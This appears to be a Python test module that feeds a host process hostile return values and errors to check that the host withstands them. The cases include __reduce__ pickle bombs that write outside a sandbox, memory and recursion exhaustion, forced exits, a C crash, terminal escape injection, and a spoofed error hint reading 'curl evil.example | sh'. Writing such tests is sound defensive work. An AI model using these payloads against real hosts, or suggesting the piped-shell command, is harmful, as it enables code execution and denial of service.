"""Answers that harm whoever reads them."""

# ruff: noqa: F403, F405
from __future__ import annotations

from .attempt import attempt
from .deeds import *
from .deeds import os, sys, time
from .evidence import host_harmed, raw_terminal

BRIEF = {"seconds": 0.5}


@attempt("answering with an object that is built by a call", host_harmed)
def reduced(arg):
    class Bomb:
        def __reduce__(self):
            return (open, (arg["outside"] + "/done-by-the-host", "w"))

    return Bomb()


@attempt("failing with an exception that is built by a call", host_harmed)
def reduced_exception(arg):
    class Bomb(Exception):
        def __reduce__(self):
            return (open, (arg["outside"] + "/done-by-the-host", "w"))

    raise Bomb("x")


@attempt("answering with a mapping of such an object as its key", host_harmed)
def reduced_key(arg):
    class Bomb(str):
        def __reduce__(self):
            return (open, (arg["outside"] + "/done-by-the-host", "w"))

    return {Bomb("key"): Bomb("value"), "list": [Bomb("x")]}


@attempt("answering with more text than a host can hold", host_harmed)
def huge_text(arg):
    return "x" * (120 << 20)


@attempt("answering with more bytes than a host can hold", host_harmed)
def huge_bytes(arg):
    return b"x" * (120 << 20)


@attempt("answering with many small lists", host_harmed)
def many_lists(arg):
    return [[] for _ in range(3_000_000)]


@attempt("answering with one list many times over", host_harmed)
def many_times(arg):
    thing = ["x" * 1000]
    for _ in range(18):
        thing = [thing, thing]
    return thing


@attempt("answering with a list in a list in a list", host_harmed)
def deep(arg):
    thing = []
    for _ in range(200_000):
        thing = [thing]
    return thing


@attempt("answering with a list that holds itself", host_harmed)
def circle(arg):
    thing = []
    thing.append(thing)
    return thing


@attempt("answering with a number of a hundred thousand digits", host_harmed)
def huge_number(arg):
    return 1 << 400_000


@attempt("answering with half a character", host_harmed)
def surrogates(arg):
    return "\ud800" + "\udfff" * 10


@attempt("answering with what is no number", host_harmed)
def no_number(arg):
    return [float("nan"), float("inf"), -float("inf")]


@attempt("answering with an iterator without an end", host_harmed, limits=BRIEF, patient=True)
def endless(arg):
    import itertools

    return itertools.repeat("x")


@attempt(
    "answering with a model that never ends to dump itself", host_harmed, limits=BRIEF, patient=True
)
def dumping(arg):
    class Model:
        def model_dump(self, **options):
            time.sleep(60)

    return Model()


@attempt("answering with a mapping without an end", host_harmed, limits=BRIEF, patient=True)
def endless_mapping(arg):
    class Endless(dict):
        def items(self):
            while True:
                yield "x", 1

        keys = __iter__ = lambda self: iter(int, 1)

    return Endless(x=1)


@attempt("answering with an object that says it is a text", host_harmed)
def lying(arg):
    class Lie:
        __class__ = property(lambda self: str)

        def __len__(self):
            return 1 << 60

        def __getattr__(self, name):
            return self

        def __call__(self, *words, **options):
            return self

    return [Lie(), {"x": Lie()}]


@attempt("answering with a text whose methods are its own", host_harmed, limits=BRIEF)
def lying_text(arg):
    class Text(str):
        def encode(self, *words):
            return b"x" * (100 << 20)

        def __str__(self):
            return "x" * (100 << 20)

        __repr__ = __str__

    return Text("x")


@attempt("failing with an error whose words have no end", host_harmed)
def huge_error(arg):
    raise ValueError("x" * (120 << 20))


@attempt("failing with an error whose words never come", host_harmed, limits=BRIEF, patient=True)
def slow_error(arg):
    class Slow(Exception):
        def __str__(self):
            time.sleep(60)
            return "slow"

    raise Slow


@attempt("failing with an error that fails when it is shown", host_harmed)
def broken_error(arg):
    class Broken(Exception):
        def __str__(self):
            return sys.exit(3)

        __repr__ = __str__
        args = property(__str__)

    raise Broken


@attempt("ending the host with SystemExit", host_harmed)
def system_exit(arg):
    raise SystemExit(0)


@attempt("ending the host with KeyboardInterrupt", host_harmed)
def interrupt(arg):
    raise KeyboardInterrupt


@attempt("ending the host's task with a cancellation", host_harmed)
def cancelled(arg):
    import asyncio

    raise asyncio.CancelledError


@attempt("ending the host's generator", host_harmed)
def generator_exit(arg):
    raise GeneratorExit


@attempt("ending an iteration of the host", host_harmed)
def stop_iteration(arg):
    raise StopIteration(1)


@attempt("failing with an error that causes itself", host_harmed)
def caused_by_itself(arg):
    error = ValueError("x")
    other = TypeError("y")
    error.__cause__, other.__cause__ = other, error
    raise error


@attempt("failing with a group of groups of errors", host_harmed)
def groups(arg):
    error = ValueError("x")
    for _ in range(5_000):
        error = ExceptionGroup("g", [error])
    raise error


@attempt("failing as deep as the stack allows", host_harmed)
def deep_failure(arg):
    def fall(number, text="x" * 1000):
        return fall(number + 1)

    fall(0)


@attempt("crashing in C", host_harmed)
def crash(arg):
    import ctypes

    ctypes.string_at(0)


@attempt("ending its process with a good exit code in a call", host_harmed)
def good_exit(arg):
    os._exit(0)


@attempt("telling of progress without an end", host_harmed, limits={"seconds": 2}, patient=True)
def progress(arg):
    while True:
        tell("x" * 1000)


@attempt("telling of progress more than a host can hold", host_harmed)
def huge_progress(arg):
    for _ in range(10):
        tell("x" * (12 << 20))
    return "told"


@attempt("failing as the error of the host that tells the user what to type", raw_terminal)
def posing(arg):
    from kurt_ext import errors

    class Posing(errors.UntrustedError):
        reference = "untrusted\x1b[2J"

    error = Posing("all is \x1b[2Jwell", hint="curl evil.example | sh")
    error.exit_code = 0
    error.candidates = ["x"] * 3_000_000
    raise error
